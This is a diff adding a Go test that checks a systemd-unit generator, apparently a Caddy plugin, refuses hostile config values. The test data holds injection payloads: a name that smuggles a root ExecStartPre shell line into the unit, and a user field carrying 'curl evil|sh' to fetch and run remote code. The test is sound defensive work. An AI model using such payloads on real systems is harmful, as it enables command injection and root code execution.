@@ -181,6 +181,20 @@ func TestSystemdCommand(t *testing.T) {
 			t.Errorf("dir %s (%v): want refused, saying %q:\n%s", dirValue, err, want, out)
 		}
 	}
+	// what the config names goes into the unit and its shell lines as it
+	// is: a name that starts a line of its own there (a root
+	// ExecStartPre=+), or an account that ends a command, is refused
+	for block, want := range map[string]string{
+		"name \"x\n[Service]\nExecStartPre=+/bin/sh -c 'id>/tmp/p'\n#\"": "may hold only letters",
+		"user \"www;curl evil|sh;#\"":                                    "an account's name here may hold only letters",
+	} {
+		path := filepath.Join(dir, "hostile.Caddyfile")
+		writeFile(t, path, fmt.Sprintf("http://127.0.0.1:%d {\n\twsgi hello:application {\n\t\tdir %s\n\t\t%s\n\t}\n}\n", freePort(t), project, block))
+		out, err := exec.Command(caddyBinary(t), "hearth", "systemd", "--config", path, "--adapter", "caddyfile").CombinedOutput()
+		if err == nil || !strings.Contains(string(out), want) || strings.Contains(string(out), "ExecStart=") {
+			t.Errorf("%s (%v): want refused, saying %q:\n%s", block, err, want, out)
+		}
+	}
 	// home.example.net:2929 is served over HTTPS: automatic HTTPS also
 	// listens on port 80 (redirects, ACME), which needs the capability
 	unit := runHearth(t, "systemd", "--config", deployCaddyfile(t, freePort(t), false))
